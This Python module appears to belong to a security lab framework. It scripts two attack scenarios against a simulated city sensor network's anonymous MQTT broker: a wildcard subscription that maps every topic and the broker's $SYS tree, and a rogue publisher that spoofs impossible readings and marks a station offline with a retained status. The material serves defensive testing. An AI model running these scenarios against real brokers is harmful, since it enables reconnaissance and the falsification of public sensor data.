"""Attacks on the wellbeing sensor network over MQTT, from ``site.attacker``.

The city's broker lets anonymous clients connect, publish and subscribe (see ``lab/broker.py``),
so an attacker on the network needs no credentials:

- ``mqtt_topic_discovery`` subscribes to ``#`` and ``$SYS/#`` and listens: every topic (the
  stations, zones and quantities: the network's points and tags), the retained status messages
  (model, firmware, position of each station) and the broker's own ``$SYS`` tree (version,
  clients connected, traffic).
- ``mqtt_rogue_publisher`` publishes false readings on the stations' own topics, in the stations'
  own JSON format (impossible values: 134 dB(A), PM2.5 above PM10, negative ozone...), and a
  retained ``offline`` status for the main-road station, which hides it from every consumer
  until the station's next heartbeat.

Each scenario connects with an MQTTX-style client id (the desktop tool an attacker would use) and
disconnects cleanly at the end.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
from typing import Any

from lab.base import LabSite, scenario
from lab.sensors import (
    MqttLink,
    Station,
    encode,
    sample_payload,
    stations_for,
    status_payload,
)
from lab.sun import City

#: the attacker's client ids (MQTTX names its clients ``mqttx_`` and 8 hex digits)
DISCOVERY_CLIENT_ID = "mqttx_3f9a61c2"
ROGUE_CLIENT_ID = "mqttx_b07d4e95"

#: impossible readings: beyond the threshold of pain, PM2.5 above PM10, NO2 of a chimney, a
#: negative ozone concentration, daylight brighter than the sun at night
FALSE_READINGS: tuple[tuple[str, float], ...] = (
    ("noise", 134.5),
    ("pm2_5", 742.0),
    ("pm10", 95.0),
    ("no2", 1850.0),
    ("o3", -12.0),
    ("light", 250_000.0),
)


@scenario(
    "mqtt_topic_discovery",
    ("T0861", "T0888"),
    "mqtt",
    "An anonymous MQTT client from the attacker subscribes to '#' and '$SYS/#' on the city's "
    "broker and listens: every sensor topic (stations, zones, quantities: the points and tags, "
    "T0861), the retained station status (model, firmware, position) and the broker's $SYS "
    "tree (version, clients: remote system information, T0888).",
)
async def mqtt_topic_discovery(site: LabSite) -> dict[str, Any]:
    """The scenario: :func:`discover_topics` for 6 s (a little over one sample period)."""
    return await discover_topics(site, listen_s=6.0)


async def discover_topics(site: LabSite, listen_s: float = 6.0) -> dict[str, Any]:
    """Map the sensor network from the broker: subscribe to everything, listen ``listen_s``."""
    link = MqttLink(DISCOVERY_CLIENT_ID, bind_address=site.attacker, reconnect=False)
    await link.connect(site.broker, site.mqtt_port)
    topics: dict[str, dict[str, Any]] = {}
    try:
        granted = await link.subscribe("#", "$SYS/#")
        loop = asyncio.get_running_loop()
        deadline = loop.time() + listen_s
        while (left := deadline - loop.time()) > 0:
            try:
                message = await asyncio.wait_for(link.messages.get(), left)
            except TimeoutError:
                break
            seen = topics.setdefault(message.topic, {"messages": 0, "retained": False})
            seen["messages"] += 1
            seen["retained"] = seen["retained"] or bool(message.retain)
            seen["last"] = message.payload.decode("utf-8", errors="replace")
        with contextlib.suppress(ConnectionError, TimeoutError):
            await link.unsubscribe("#", "$SYS/#")
    finally:
        await link.close()

    stations: dict[str, dict[str, Any]] = {}
    for topic, seen in topics.items():
        parts = topic.split("/")
        if len(parts) != 4 or parts[0] != "city":
            continue
        _, zone, station, leaf = parts
        entry = stations.setdefault(station, {"zone": zone, "quantities": []})
        if leaf == "status":
            with contextlib.suppress(ValueError):
                status = json.loads(seen["last"])
                if isinstance(status, dict):
                    keys = ("state", "model", "firmware", "lat", "lon")
                    entry.update({k: status[k] for k in keys if k in status})
        else:
            entry["quantities"].append(leaf)
    for entry in stations.values():
        entry["quantities"].sort()
    sys_topics = {t: s["last"][:200] for t, s in topics.items() if t.startswith("$SYS/")}
    return {
        "targets": [site.broker],
        "client_id": DISCOVERY_CLIENT_ID,
        "subscriptions": ["#", "$SYS/#"],
        "granted_qos": [int(code.value) for code in granted],
        "listen_s": listen_s,
        "messages": sum(s["messages"] for s in topics.values()),
        "topics": sorted(t for t in topics if not t.startswith("$SYS/")),
        "retained_topics": sorted(t for t, s in topics.items() if s["retained"]),
        "stations": dict(sorted(stations.items())),
        "broker_version": sys_topics.get("$SYS/broker/version"),
        "clients_connected": sys_topics.get("$SYS/broker/clients/connected"),
        "sys_topics": len(sys_topics),
    }


@scenario(
    "mqtt_rogue_publisher",
    ("T0856", "T0832"),
    "mqtt",
    "An anonymous MQTT client from the attacker publishes false readings (134.5 dB(A), PM2.5 "
    "above PM10, 1850 µg/m³ NO2, negative O3, 250,000 lx) on the park and residential stations' "
    "own topics in their own JSON format, three bursts a second apart (spoofed reporting "
    "messages, T0856), then a retained 'offline' status for the main-road station, so that the "
    "wellbeing feed shows what is not there (manipulation of view, T0832).",
)
async def mqtt_rogue_publisher(site: LabSite) -> dict[str, Any]:
    """The scenario: :func:`publish_false_readings`, three bursts a second apart."""
    return await publish_false_readings(site, bursts=3, gap_s=1.0)


async def publish_false_readings(
    site: LabSite, bursts: int = 3, gap_s: float = 1.0
) -> dict[str, Any]:
    """Spoof the stations' readings (``bursts`` times, ``gap_s`` apart), then silence the
    main-road station with a retained ``offline`` status."""
    stations = stations_for(site)
    silenced = next((s for s in stations if s.place.kind == "road"), None)
    spoofed = [s for s in stations if s is not silenced] or stations
    city = City()
    sent: list[dict[str, Any]] = []
    link = MqttLink(ROGUE_CLIENT_ID, bind_address=site.attacker, reconnect=False)
    await link.connect(site.broker, site.mqtt_port)
    try:
        for burst in range(bursts):
            now = time.time()
            for station in spoofed:
                for quantity, value in FALSE_READINGS:
                    # the attacker does not know the station's counter: it starts its own
                    doc = sample_payload(station, quantity, value, now, burst + 1, 5.0)
                    await _send(link, station.topic(quantity), doc, False, sent)
            if burst + 1 < bursts:
                await asyncio.sleep(gap_s)
        if silenced is not None:
            doc = status_payload(silenced, "offline", city=city, t=time.time(), reason="shutdown")
            await _send(link, silenced.status_topic, doc, True, sent)
    finally:
        await link.close()
    return {
        "targets": [site.broker],
        "client_id": ROGUE_CLIENT_ID,
        "spoofed_stations": [_who(s) for s in spoofed],
        "silenced_station": _who(silenced) if silenced is not None else None,
        "false_readings": dict(FALSE_READINGS),
        "messages": len(sent),
        "published": sent,
    }


async def _send(
    link: MqttLink, topic: str, doc: dict[str, Any], retain: bool, sent: list[dict[str, Any]]
) -> None:
    await link.publish(topic, encode(doc), qos=1, retain=retain)
    sent.append({"topic": topic, "retain": retain, "payload": doc})


def _who(station: Station) -> dict[str, str]:
    return {"station": station.station_id, "zone": station.zone, "address": station.address}
